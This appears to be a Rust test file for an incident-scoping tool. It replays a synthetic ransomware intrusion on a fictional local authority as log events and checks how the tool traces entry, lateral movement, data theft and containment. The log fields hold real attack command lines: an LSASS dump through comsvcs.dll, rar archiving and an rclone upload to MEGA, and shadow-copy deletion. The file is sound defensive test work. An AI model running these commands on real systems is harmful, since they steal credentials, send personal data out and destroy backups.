@@ -1,0 +1,444 @@
+//! A miniature of the reference scenario, built event by event: VPN login
+//! → RDP → discovery and LSASS dump → PsExec to two servers → CIAS archived
+//! and uploaded → shadow copies deleted → Security log cleared; plus an
+//! isolated State station (TES-01) whose logs cover the whole period.
+
+use std::sync::Arc;
+
+use chrono::{DateTime, Duration, TimeZone, Utc};
+use vigie_detect::{Level, LogSource, Match, RuleKind, RuleMeta};
+use vigie_event::{Event, Locator, Origin};
+use vigie_scope::*;
+
+const ASSETS: &str = r#"
+organisation: CC Pen-Ar-Bed (test)
+zones:
+  - {name: core, critical: true}
+  - {name: servers}
+  - {name: state-id, critical: true, isolated: true}
+hosts:
+  - {name: DC01, zone: core, role: domain_controller, services: ["*"]}
+  - {name: SRV-RDS01, zone: servers, role: remote_desktop, services: [remote-work], addresses: [10.10.1.30]}
+  - {name: SRV-FIC01, zone: servers, role: file_server, services: [social-action]}
+  - {name: SRV-BKP01, zone: servers, role: backup_server, services: [backups]}
+  - {name: SRV-WEB01, zone: servers, services: [family-portal]}
+  - {name: TES-01, zone: state-id, role: isolated_station, services: [passports], addresses: [10.50.0.10]}
+accounts:
+  - {name: presta.maint, kind: provider, privileged: true, mfa: false}
+data_stores:
+  - name: CIAS
+    host: SRV-FIC01
+    path: 'D:\Partages\CIAS'
+    share: CIAS
+    sensitivity: special_category
+    personal_data: true
+networks:
+  vpn_pools: [10.212.134.0/24]
+"#;
+
+fn t(day: u32, h: u32, m: u32) -> DateTime<Utc> {
+    Utc.with_ymd_and_hms(2026, 11, day, h, m, 0).unwrap()
+}
+
+struct B {
+    events: Vec<(Event, Vec<Match>)>,
+    rec: std::collections::HashMap<(String, String), u64>,
+}
+
+impl B {
+    fn new() -> Self {
+        B { events: vec![], rec: Default::default() }
+    }
+    fn ev(&mut self, time: DateTime<Utc>, host: &str, channel: &str, id: Option<u32>, fields: &[(&str, &str)]) -> &mut Event {
+        let src = format!("{host}-{}.evtx", channel.replace('/', "_"));
+        let r = self.rec.entry((host.into(), channel.into())).or_insert(0);
+        *r += 1;
+        let mut e = Event::new(Origin { source: Arc::from(src.as_str()), locator: Locator::Record(*r) });
+        e.timestamp = Some(time);
+        e.computer = Some(format!("{host}.ccpab.local").into());
+        e.channel = Some(channel.into());
+        e.event_id = id;
+        e.record_id = Some(*r);
+        if let Some(id) = id {
+            e.push("EventID", id as i64);
+        }
+        e.push("Channel", channel);
+        for (k, v) in fields {
+            e.push(*k, *v);
+        }
+        self.events.push((e, vec![]));
+        &mut self.events.last_mut().unwrap().0
+    }
+    fn matched(&mut self, r: Arc<RuleMeta>) {
+        self.events.last_mut().unwrap().1.push(Match { rule: r, matched: vec![], correlation_values: vec![], generate: true });
+    }
+    /// Skips `n` record ids on (host, channel): a gap.
+    fn skip(&mut self, host: &str, channel: &str, n: u64) {
+        *self.rec.entry((host.into(), channel.into())).or_insert(0) += n;
+    }
+}
+
+fn rule(title: &str, level: Level, tags: &[&str]) -> Arc<RuleMeta> {
+    Arc::new(RuleMeta {
+        id: Some(format!("id-{}", title.len())),
+        name: None,
+        title: title.into(),
+        kind: RuleKind::Detection,
+        level: Some(level),
+        status: Some("test".into()),
+        description: None,
+        author: None,
+        tags: tags.iter().map(|s| s.to_string()).collect(),
+        references: vec![],
+        falsepositives: vec![],
+        logsource: LogSource::default(),
+        path: "test.yml".into(),
+    })
+}
+
+const SEC: &str = "Security";
+const SYS: &str = "System";
+const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
+
+/// Background: DC01 and TES-01 log every 30 minutes from day 13 to day 17.
+fn background(b: &mut B, with_tes: bool) {
+    let mut now = t(13, 0, 0);
+    while now <= t(17, 0, 0) {
+        b.ev(now, "DC01", SEC, Some(4768), &[("TargetUserName", "agent.a"), ("IpAddress", "10.10.2.15")]);
+        if with_tes {
+            b.ev(now, "TES-01", SEC, Some(4624), &[("TargetUserName", "agent.tes"), ("LogonType", "2"), ("IpAddress", "127.0.0.1")]);
+        }
+        b.ev(now, "SRV-WEB01", SEC, Some(4634), &[]);
+        now += Duration::minutes(30);
+    }
+}
+
+fn attack(b: &mut B) {
+    // 1. VPN: one failure, then success from 203.0.113.45.
+    b.ev(t(14, 2, 5), "FW01", "fortigate", None, &[("user", "presta.maint"), ("remip", "203.0.113.45"), ("action", "ssl-login-fail")]);
+    b.ev(t(14, 2, 10), "FW01", "fortigate", None, &[("user", "presta.maint"), ("remip", "203.0.113.45"), ("action", "tunnel-up"), ("tunnelip", "10.212.134.11")]);
+    // 2. RDP to SRV-RDS01 from the VPN pool.
+    b.ev(t(14, 2, 14), "SRV-RDS01", SEC, Some(4624), &[("TargetUserName", "presta.maint"), ("TargetDomainName", "CCPAB"), ("LogonType", "10"), ("IpAddress", "10.212.134.11"), ("WorkstationName", "DESKTOP-PRESTA")]);
+    b.ev(t(14, 2, 14), "SRV-RDS01", "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational", Some(1149), &[("Param1", "presta.maint"), ("Param2", "CCPAB"), ("Param3", "10.212.134.11")]);
+    // 3. Discovery.
+    b.ev(t(14, 2, 20), "SRV-RDS01", SYSMON, Some(1), &[("Image", "C:\\Windows\\explorer.exe"), ("ProcessGuid", "{G-EXPLORER}"), ("ParentProcessGuid", "{G-USERINIT}"), ("ParentImage", "C:\\Windows\\System32\\userinit.exe"), ("User", "CCPAB\\presta.maint")]);
+    b.ev(t(14, 2, 25), "SRV-RDS01", SYSMON, Some(1), &[("Image", "C:\\Windows\\System32\\cmd.exe"), ("ProcessGuid", "{G-CMD}"), ("ParentProcessGuid", "{G-EXPLORER}"), ("ParentImage", "C:\\Windows\\explorer.exe"), ("User", "CCPAB\\presta.maint")]);
+    b.ev(t(14, 2, 30), "SRV-RDS01", SYSMON, Some(1), &[("Image", "C:\\Windows\\System32\\net.exe"), ("CommandLine", "net group \"Admins du domaine\" /domain"), ("ProcessGuid", "{G-NET}"), ("ParentProcessGuid", "{G-CMD}"), ("ParentImage", "C:\\Windows\\System32\\cmd.exe"), ("User", "CCPAB\\presta.maint")]);
+    b.matched(rule("Suspicious Group And Account Reconnaissance Activity Using Net.EXE", Level::Medium, &["attack.discovery", "attack.t1087.002"]));
+    // 5. LSASS dump.
+    b.ev(t(14, 2, 40), "SRV-RDS01", SYSMON, Some(1), &[("Image", "C:\\Windows\\System32\\rundll32.exe"), ("CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\PerfLogs\\l.dmp full"), ("ProcessGuid", "{G-RUNDLL}"), ("ParentProcessGuid", "{G-CMD}"), ("ParentImage", "C:\\Windows\\System32\\cmd.exe"), ("User", "CCPAB\\presta.maint")]);
+    b.matched(rule("Process Memory Dump Via Comsvcs.DLL", Level::High, &["attack.credential-access", "attack.t1003.001", "attack.defense-evasion", "attack.t1218.011"]));
+    // 7. PsExec from SRV-RDS01 (10.10.1.30) to SRV-FIC01 and SRV-BKP01.
+    for (i, target) in ["SRV-FIC01", "SRV-BKP01"].iter().enumerate() {
+        let m = 3 * i as u32;
+        b.ev(t(14, 3, m), target, SEC, Some(4624), &[("TargetUserName", "presta.maint"), ("TargetDomainName", "CCPAB"), ("LogonType", "3"), ("IpAddress", "10.10.1.30"), ("WorkstationName", "SRV-RDS01")]);
+        b.ev(t(14, 3, m), target, SEC, Some(5145), &[("SubjectUserName", "presta.maint"), ("SubjectDomainName", "CCPAB"), ("ShareName", "\\\\*\\ADMIN$"), ("RelativeTargetName", "PSEXESVC.exe"), ("IpAddress", "10.10.1.30")]);
+        b.ev(t(14, 3, m + 1), target, SYS, Some(7045), &[("ServiceName", "PSEXESVC"), ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"), ("AccountName", "LocalSystem")]);
+        b.matched(rule("PsExec Service Installation", Level::Medium, &["attack.execution", "attack.t1569.002"]));
+    }
+    // 9. CIAS archived and uploaded to MEGA.
+    b.ev(t(15, 22, 0), "SRV-FIC01", SYSMON, Some(1), &[("Image", "C:\\PerfLogs\\rar.exe"), ("CommandLine", "rar.exe a -hpS3cret C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS"), ("ProcessGuid", "{G-RAR}"), ("User", "CCPAB\\presta.maint")]);
+    b.matched(rule("Files Added To An Archive Using Rar.EXE", Level::Low, &["attack.collection", "attack.t1560.001"]));
+    b.ev(t(15, 22, 20), "SRV-FIC01", SYSMON, Some(22), &[("QueryName", "g.api.mega.co.nz"), ("Image", "C:\\PerfLogs\\rclone.exe")]);
+    b.ev(t(15, 22, 21), "SRV-FIC01", SYSMON, Some(1), &[("Image", "C:\\PerfLogs\\rclone.exe"), ("CommandLine", "rclone.exe copy C:\\PerfLogs\\cias.rar mega:depot -q"), ("ProcessGuid", "{G-RCLONE}"), ("User", "CCPAB\\presta.maint")]);
+    b.matched(rule("PUA - Rclone Execution", Level::High, &["attack.exfiltration", "attack.t1567.002"]));
+    // 12. Impact, then the Security log is cleared (records lost).
+    b.ev(t(16, 1, 0), "SRV-FIC01", SYSMON, Some(1), &[("Image", "C:\\Windows\\System32\\vssadmin.exe"), ("CommandLine", "vssadmin delete shadows /all /quiet"), ("User", "CCPAB\\presta.maint")]);
+    b.matched(rule("Shadow Copies Deletion Using Operating Systems Utilities", Level::High, &["attack.impact", "attack.t1490"]));
+    b.skip("SRV-FIC01", SEC, 500);
+    b.ev(t(16, 1, 5), "SRV-FIC01", SEC, Some(1102), &[("SubjectUserName", "presta.maint"), ("SubjectDomainName", "CCPAB")]);
+}
+
+fn assets() -> Arc<Assets> {
+    Arc::new(Assets::from_str(ASSETS).expect("test assets parse"))
+}
+
+fn run(b: &B) -> Scope {
+    let mut o = Observer::new(assets());
+    for (e, m) in &b.events {
+        o.observe(e, m);
+    }
+    o.finish(&[])
+}
+
+fn scenario(with_tes: bool) -> B {
+    let mut b = B::new();
+    background(&mut b, with_tes);
+    attack(&mut b);
+    b
+}
+
+fn host<'a>(s: &'a Scope, n: &str) -> &'a Host {
+    s.hosts.iter().find(|h| h.name == n).unwrap_or_else(|| panic!("host {n} missing"))
+}
+
+#[test]
+fn entry_point_is_the_vpn_login_of_the_provider() {
+    let s = run(&scenario(true));
+    let e = s.entry_point.as_ref().expect("entry point");
+    assert_eq!(e.method, "vpn");
+    assert_eq!(e.account.as_deref(), Some("presta.maint"));
+    assert_eq!(e.source_address.as_deref(), Some("203.0.113.45"));
+    assert_eq!(e.source_kind, Some(AddressKind::External));
+    assert_eq!(e.host.as_deref(), Some("SRV-RDS01"));
+    assert_eq!(e.time, Some(t(14, 2, 10)));
+    assert_eq!(e.confidence, Confidence::High);
+    assert!(e.description.contains("after 1 failed attempt"), "{}", e.description);
+    // Evidence points back at the firewall log line and the RDP logon.
+    assert!(e.evidence.iter().any(|x| x.source.starts_with("FW01")));
+    assert!(e.evidence.iter().any(|x| x.event_id == Some(4624) && x.host.as_deref() == Some("SRV-RDS01")));
+}
+
+#[test]
+fn lateral_movement_graph_and_compromised_hosts() {
+    let s = run(&scenario(true));
+    for target in ["SRV-FIC01", "SRV-BKP01"] {
+        let l = s
+            .links
+            .iter()
+            .find(|l| l.method == LinkMethod::Psexec && l.to == target)
+            .unwrap_or_else(|| panic!("no psexec link to {target}: {:#?}", s.links));
+        assert_eq!(l.from, "SRV-RDS01", "source resolved from 10.10.1.30 via the assets file");
+        assert_eq!(l.account.as_deref(), Some("presta.maint"));
+        assert!(l.malicious);
+        assert!(l.evidence.iter().any(|e| e.event_id == Some(7045)) || l.evidence.iter().any(|e| e.event_id == Some(5145)));
+    }
+    let rdp = s.links.iter().find(|l| l.method == LinkMethod::Rdp && l.to == "SRV-RDS01").expect("rdp link");
+    assert_eq!(rdp.from_address.as_deref(), Some("10.212.134.11"));
+    assert_eq!(rdp.from_kind, AddressKind::Vpn);
+    assert!(rdp.malicious);
+    for h in ["SRV-RDS01", "SRV-FIC01", "SRV-BKP01"] {
+        assert_eq!(host(&s, h).compromised, Compromise::Yes, "{h}: {:?}", host(&s, h).compromise_reasons);
+    }
+    for h in ["TES-01", "DC01", "SRV-WEB01"] {
+        assert_eq!(host(&s, h).compromised, Compromise::No, "{h}");
+    }
+    assert_eq!(host(&s, "SRV-RDS01").first_malicious, Some(t(14, 2, 14)));
+    assert_eq!(host(&s, "SRV-FIC01").last_malicious, Some(t(16, 1, 5)));
+    let acc = s.accounts.iter().find(|a| a.name == "presta.maint").expect("account");
+    assert_eq!(acc.compromised, Compromise::Yes);
+    assert_eq!(acc.kind, AccountKind::Provider);
+    assert!(acc.privileged);
+    for h in ["SRV-RDS01", "SRV-FIC01", "SRV-BKP01"] {
+        assert!(acc.hosts.contains(&h.to_string()), "{:?}", acc.hosts);
+    }
+    assert!(!s.accounts.iter().any(|a| a.name == "agent.tes" && a.compromised != Compromise::No));
+}
+
+#[test]
+fn one_incident_with_progression_in_time_order() {
+    let s = run(&scenario(true));
+    assert_eq!(s.incidents.len(), 1, "{:#?}", s.incidents.iter().map(|i| (&i.id, &i.hosts)).collect::<Vec<_>>());
+    let inc = &s.incidents[0];
+    assert_eq!(inc.id, "INC-1");
+    assert_eq!(inc.severity, Level::High);
+    let titles: Vec<&str> = inc.progression.iter().map(|p| p.rule_title.as_str()).collect();
+    assert_eq!(titles.first(), Some(&"Suspicious Group And Account Reconnaissance Activity Using Net.EXE"));
+    assert_eq!(titles.last(), Some(&"Event log cleared (Vigie built-in)"));
+    assert!(inc.progression.windows(2).all(|w| w[0].first <= w[1].first));
+    let psexec = inc.progression.iter().find(|p| p.rule_title == "PsExec Service Installation").unwrap();
+    assert_eq!(psexec.count, 2);
+    assert_eq!(psexec.hosts, vec!["SRV-BKP01", "SRV-FIC01"]);
+    assert_eq!(psexec.technique_id.as_deref(), Some("T1569.002"));
+    assert_eq!(psexec.tactic, "Execution");
+    assert_eq!(inc.tactics.first().map(String::as_str), Some("Discovery"));
+    assert!(inc.tactics.contains(&"Impact".to_string()));
+    assert!(inc.services_affected.contains(&"social-action".to_string()));
+    assert!(inc.links.len() >= 3, "{:?}", inc.links);
+    assert!(inc.entry_point.is_some());
+}
+
+#[test]
+fn nature_is_human_operated_ransomware_with_data_theft() {
+    let s = run(&scenario(true));
+    let kinds: Vec<NatureKind> = s.nature.iter().map(|n| n.kind).collect();
+    assert_eq!(kinds[0], NatureKind::Ransomware);
+    assert_eq!(s.nature[0].label, "human-operated ransomware with data theft (double extortion)");
+    assert!(kinds.contains(&NatureKind::DataTheft));
+    assert!(kinds.contains(&NatureKind::CredentialTheft));
+    assert!(kinds.contains(&NatureKind::LateralMovement));
+    assert!(kinds.contains(&NatureKind::DefenceEvasion));
+    let cred = s.nature.iter().find(|n| n.kind == NatureKind::CredentialTheft).unwrap();
+    assert!(cred.evidence.iter().all(|e| e.rule_title.is_some()));
+}
+
+#[test]
+fn cias_data_probably_left() {
+    let s = run(&scenario(true));
+    let cias: Vec<&DataExposure> = s.data_exposure.iter().filter(|d| d.store.as_deref() == Some("CIAS")).collect();
+    let arch = cias.iter().find(|d| d.activity == ExposureActivity::Archive).expect("archive");
+    assert_eq!(arch.tool.as_deref(), Some("rar.exe"));
+    assert!(arch.probable_exfiltration);
+    let up = cias.iter().find(|d| d.activity == ExposureActivity::Upload).expect("upload tied to CIAS via cias.rar");
+    assert!(up.destinations.contains(&"mega:depot".to_string()), "{:?}", up.destinations);
+    assert!(up.destinations.contains(&"g.api.mega.co.nz".to_string()));
+    assert!(up.personal_data);
+    assert_eq!(up.sensitivity, Some(Sensitivity::SpecialCategory));
+    assert!(s.answer.data_exposure.contains("CIAS") && s.answer.data_exposure.contains("GDPR"), "{}", s.answer.data_exposure);
+    let mega = s.domains.iter().find(|d| d.domain == "g.api.mega.co.nz").expect("mega domain");
+    assert!(mega.reasons.contains(&"file_sharing".to_string()));
+}
+
+#[test]
+fn coverage_shows_the_cleared_log_and_the_gap() {
+    let s = run(&scenario(true));
+    let fic = s.coverage.channels.iter().find(|c| c.host == "SRV-FIC01" && c.channel == "Security").unwrap();
+    assert_eq!(fic.cleared.len(), 1);
+    assert_eq!(fic.cleared[0].account.as_deref(), Some("presta.maint"));
+    assert_eq!(fic.cleared[0].cleared_channel, "Security");
+    assert_eq!(fic.cleared[0].time, Some(t(16, 1, 5)));
+    assert_eq!(fic.record_gaps, vec![RecordGap { after: 2, before: 503, missing: 500 }]);
+    let tes = s.coverage.channels.iter().find(|c| c.host == "TES-01").unwrap();
+    assert!(tes.record_gaps.is_empty() && tes.cleared.is_empty() && tes.silences.is_empty());
+    assert_eq!(tes.events, 4 * 48 + 1);
+    // A silence: the web server stops logging for 8 hours.
+    let mut b = scenario(true);
+    b.events.retain(|(e, _)| {
+        !(e.computer.as_deref() == Some("SRV-WEB01.ccpab.local")
+            && e.timestamp.is_some_and(|x| x > t(14, 4, 0) && x < t(14, 12, 0)))
+    });
+    let s = run(&b);
+    let web = s.coverage.channels.iter().find(|c| c.host == "SRV-WEB01").unwrap();
+    assert_eq!(web.silences.len(), 1);
+    assert_eq!(web.silences[0].seconds, 8 * 3600);
+}
+
+#[test]
+fn isolated_zone_with_full_coverage_and_no_contact_is_not_reached() {
+    let s = run(&scenario(true));
+    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
+    assert_eq!(z.status, ZoneReach::NotReached, "{}", z.reason);
+    assert_eq!(z.hosts, vec!["TES-01"]);
+    assert!(z.coverage.iter().any(|c| c.starts_with("TES-01 Security")), "{:?}", z.coverage);
+    assert!(z.evidence.is_empty());
+    let passports = s.services.iter().find(|x| x.service == "passports").unwrap();
+    assert_eq!(passports.status, ServiceState::Unaffected, "{}", passports.reason);
+    // The DC ("*") makes other services depend on it, not the isolated one.
+    let social = s.services.iter().find(|x| x.service == "social-action").unwrap();
+    assert_eq!(social.status, ServiceState::Affected);
+    assert_eq!(social.hosts, vec!["SRV-FIC01"]);
+}
+
+#[test]
+fn isolated_zone_with_contact_is_reached() {
+    let mut b = scenario(true);
+    b.ev(t(15, 10, 0), "TES-01", SEC, Some(4624), &[("TargetUserName", "presta.maint"), ("LogonType", "3"), ("IpAddress", "10.10.1.30"), ("WorkstationName", "SRV-RDS01")]);
+    let s = run(&b);
+    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
+    assert_eq!(z.status, ZoneReach::Reached, "{}", z.reason);
+    assert!(z.evidence.iter().any(|e| e.event_id == Some(4624) && e.host.as_deref() == Some("TES-01")));
+    assert_ne!(host(&s, "TES-01").compromised, Compromise::No);
+}
+
+#[test]
+fn isolated_zone_without_logs_is_unknown_never_not_reached() {
+    let s = run(&scenario(false));
+    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
+    assert_eq!(z.status, ZoneReach::Unknown);
+    assert!(z.reason.contains("no logs for TES-01"), "{}", z.reason);
+    let passports = s.services.iter().find(|x| x.service == "passports").unwrap();
+    assert_eq!(passports.status, ServiceState::Unknown);
+    // Logs that stop before the attack ends are not enough either.
+    let mut b = scenario(true);
+    b.events.retain(|(e, _)| !(e.computer.as_deref() == Some("TES-01.ccpab.local") && e.timestamp.unwrap() > t(15, 0, 0)));
+    let s = run(&b);
+    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
+    assert_eq!(z.status, ZoneReach::Unknown, "{}", z.reason);
+    assert!(z.reason.contains("do not cover"), "{}", z.reason);
+}
+
+#[test]
+fn containment_starts_with_the_entry() {
+    let s = run(&scenario(true));
+    let c = &s.containment;
+    assert_eq!(c[0].kind, ActionKind::RevokeRemoteAccess);
+    assert_eq!(c[0].target, "presta.maint");
+    assert!(c.iter().any(|a| a.kind == ActionKind::IsolateHost && a.target == "SRV-RDS01"));
+    assert!(c.iter().any(|a| a.kind == ActionKind::BlockAddress && a.target == "203.0.113.45"));
+    assert!(c.iter().any(|a| a.kind == ActionKind::BlockDomain && a.target == "g.api.mega.co.nz"));
+    let rds = c.iter().position(|a| a.kind == ActionKind::IsolateHost && a.target == "SRV-RDS01").unwrap();
+    let fic = c.iter().position(|a| a.kind == ActionKind::IsolateHost && a.target == "SRV-FIC01").unwrap();
+    assert!(rds < fic, "entry host first");
+    assert!(c.windows(2).all(|w| w[0].priority < w[1].priority));
+    assert!(!s.answer.isolate_now.is_empty());
+    let text = s.summary_text();
+    assert!(text.contains("presta.maint") && text.contains("state-id: not reached"), "{text}");
+}
+
+#[test]
+fn parent_chain_follows_process_guids() {
+    let s = run(&scenario(true));
+    let p = s.processes.iter().find(|p| p.image.ends_with("rundll32.exe")).expect("rundll32");
+    assert_eq!(
+        p.parent_chain,
+        vec!["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\userinit.exe"]
+    );
+    assert_eq!(p.rules, vec!["Process Memory Dump Via Comsvcs.DLL"]);
+    assert_eq!(p.user.as_deref(), Some("presta.maint"));
+    let svc = s.services_installed.iter().filter(|x| x.name == "PSEXESVC").count();
+    assert_eq!(svc, 2);
+    assert!(s.services_installed.iter().all(|x| x.suspicious));
+}
+
+#[test]
+fn merge_order_does_not_change_the_scope() {
+    let b = scenario(true);
+    let whole = run(&b).to_json();
+    for split in [2usize, 3, 7] {
+        let mut obs: Vec<Observer> = (0..split).map(|_| Observer::new(assets())).collect();
+        for (i, (e, m)) in b.events.iter().enumerate() {
+            // Interleave events across observers, as threads would.
+            obs[(i / 5) % split].observe(e, m);
+        }
+        let mut rev = obs.into_iter().rev();
+        let mut acc = rev.next().unwrap();
+        for o in rev {
+            acc.merge(o);
+        }
+        assert_eq!(acc.finish(&[]).to_json(), whole, "split {split}");
+    }
+}
+
+#[test]
+fn json_round_trip_is_lossless() {
+    let s = run(&scenario(true));
+    let json = s.to_json();
+    let back = Scope::from_json(&json).expect("parse back");
+    assert_eq!(back, s);
+    assert!(json.contains("\"schema_version\": \"1.0\""));
+}
+
+#[test]
+fn without_assets_roles_are_inferred() {
+    let b = scenario(true);
+    let mut o = Observer::new(Arc::new(Assets::default()));
+    for (e, m) in &b.events {
+        o.observe(e, m);
+    }
+    let s = o.finish(&[]);
+    assert!(!s.assets_loaded);
+    let dc = host(&s, "DC01");
+    assert_eq!(dc.role.as_deref(), Some("domain_controller"));
+    assert_eq!(dc.role_source.as_deref(), Some("inferred"));
+    assert_eq!(host(&s, "FW01").role.as_deref(), Some("firewall"));
+    assert!(s.zones.is_empty() && s.services.is_empty());
+    assert!(s.caveats.iter().any(|c| c.contains("No assets file")));
+    // Without the VPN pool, the tunnel address is internal, but the VPN
+    // login behind it is still found through the firewall's tunnel address.
+    let e = s.entry_point.as_ref().unwrap();
+    assert_eq!(e.method, "vpn");
+    assert_eq!(e.source_address.as_deref(), Some("203.0.113.45"));
+}
+
+#[test]
+fn quiet_logs_give_no_attack() {
+    let mut b = B::new();
+    background(&mut b, true);
+    let s = run(&b);
+    assert!(s.nature.is_empty() && s.incidents.is_empty() && s.entry_point.is_none());
+    assert!(s.hosts.iter().all(|h| h.compromised == Compromise::No));
+    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
+    assert_eq!(z.status, ZoneReach::NotReached, "{}", z.reason);
+    assert!(s.containment.is_empty());
+    assert_eq!(s.answer.headline, "No attack found in these logs.");
+}
